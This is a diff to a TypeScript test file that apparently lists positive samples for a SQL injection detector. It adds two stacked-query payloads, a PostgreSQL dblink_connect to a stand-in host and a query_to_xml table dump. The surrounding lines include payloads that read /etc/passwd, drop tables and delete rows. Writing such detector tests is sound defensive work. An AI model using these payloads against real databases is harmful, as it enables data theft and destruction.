@@ -80,6 +80,8 @@ const POSITIVE: Array<[string, string]> = [
   ['stacked exec of a procedure with a literal', "1; exec myproc 'a'"],
   ['stacked load data infile', "1;load data infile '/etc/passwd' into table t"],
   ['stacked show tables', '1; show tables'],
+  ['stacked dblink (PostgreSQL out-of-band)', "1;select dblink_connect('host=h.invalid')"],
+  ['stacked query_to_xml (whole-query exfiltration)', "1;select query_to_xml('select * from users',true,true,'')"],
   ['inline drop after a breakout (MSSQL needs no semicolon)', "x' drop table users --"],
   ['inline drop of a name glued to the quote (an identifier)', 'x"drop table"users'],
   ['inline delete reopening the literal at the end', "x' delete from users '"],
